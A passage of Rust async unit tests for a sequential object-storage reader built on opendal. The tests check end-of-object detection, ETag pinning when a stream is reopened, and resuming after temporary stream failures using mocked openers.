        for (listed, ends) in [(10_000, true), (6_000, false)] {
            let mut r = Sequential::new(&op, "f", 0, listed).whole_object();
            let mut b = Vec::new();
            assert_eq!(
                r.read_into(&mut b, listed as usize).await.unwrap(),
                listed as usize
            );
            assert_eq!(r.ends_here().await.unwrap(), ends, "listed {listed}");
        }
    }

    #[tokio::test]
    async fn a_pinned_stream_asks_for_its_etag_each_time_it_is_opened() {
        use futures::StreamExt;
        let asked = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let seen = asked.clone();
        let open = Box::new(
            move |range: std::ops::Range<u64>, whole: bool, if_match: Option<String>| {
                seen.lock().unwrap().push((range.start, whole, if_match));
                // 1,000 bytes from where asked, then a temporary failure.
                let n = (range.end - range.start).min(1000) as usize;
                let mut items = vec![Ok(opendal::Buffer::from(vec![1u8; n]))];
                if range.start + (n as u64) < range.end {
                    items.push(Err(opendal::Error::new(
                        opendal::ErrorKind::Unexpected,
                        "reset",
                    )
                    .set_temporary()));
                }
                Box::pin(async move { Ok(futures::stream::iter(items).boxed()) })
                    as futures::future::BoxFuture<'static, _>
            },
        ) as Opener<'static>;
        let mut r = Sequential::with_opener(0, 2500, open)
            .whole_object()
            .pinned(Some("\"e1\"".into()));
        let mut b = Vec::new();
        assert_eq!(r.read_into(&mut b, 2500).await.unwrap(), 2500);
        let e1 = Some("\"e1\"".to_string());
        assert_eq!(
            *asked.lock().unwrap(),
            [
                (0, true, e1.clone()),
                (1000, false, e1.clone()),
                (2000, false, e1)
            ]
        );
    }

    #[tokio::test]
    async fn a_failed_stream_is_opened_again_where_it_stopped() {
        use futures::StreamExt;
        let data = std::sync::Arc::new(crate::chunk::tests::pseudo_random(100_000, 6));
        // Each opening serves 10,000 bytes from where it is asked, in
        // pieces of 3,000, then fails (temporary unless `permanent`).
        let opener = |opens: std::sync::Arc<std::sync::atomic::AtomicU32>, permanent: bool| {
            let data = data.clone();
            Box::new(
                move |range: std::ops::Range<u64>, _whole: bool, _if_match: Option<String>| {
                    opens.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                    let data = data.clone();
                    Box::pin(async move {
                        let from = range.start as usize;
                        let to = (from + 10_000).min(range.end as usize);
                        let mut items: Vec<std::result::Result<opendal::Buffer, opendal::Error>> =
                            data[from..to]
                                .chunks(3000)
                                .map(|c| Ok(opendal::Buffer::from(c.to_vec())))
                                .collect();
                        if to < range.end as usize {
                            let e = opendal::Error::new(opendal::ErrorKind::Unexpected, "reset");
                            items.push(Err(if permanent { e } else { e.set_temporary() }));
                        }
                        Ok(futures::stream::iter(items).boxed())
                    }) as futures::future::BoxFuture<'static, _>
                },
            ) as Opener<'static>
        };
        let opens = std::sync::Arc::new(std::sync::atomic::AtomicU32::new(0));
        let mut r = Sequential::with_opener(60_000, 100_000, opener(opens.clone(), false));
        let mut b = Vec::new();
        assert_eq!(r.read_into(&mut b, 40_000).await.unwrap(), 40_000);
        assert_eq!(b, data[60_000..]);
        assert_eq!(opens.load(std::sync::atomic::Ordering::Relaxed), 4);

        let opens = std::sync::Arc::new(std::sync::atomic::AtomicU32::new(0));
        let mut r = Sequential::with_opener(0, 100_000, opener(opens.clone(), false));
        let mut b = Vec::new();
        let e = r.read_into(&mut b, 100_000).await.unwrap_err();
        assert!(e.is_temporary(), "{e}");
        assert_eq!(b, data[..40_000], "what came before the failures is kept");
        assert_eq!(opens.load(std::sync::atomic::Ordering::Relaxed), 4);

        let opens = std::sync::Arc::new(std::sync::atomic::AtomicU32::new(0));
        let mut r = Sequential::with_opener(0, 100_000, opener(opens.clone(), true));
        let mut b = Vec::new();
        assert!(r.read_into(&mut b, 100_000).await.is_err());
        assert_eq!(opens.load(std::sync::atomic::Ordering::Relaxed), 1);
    }
}
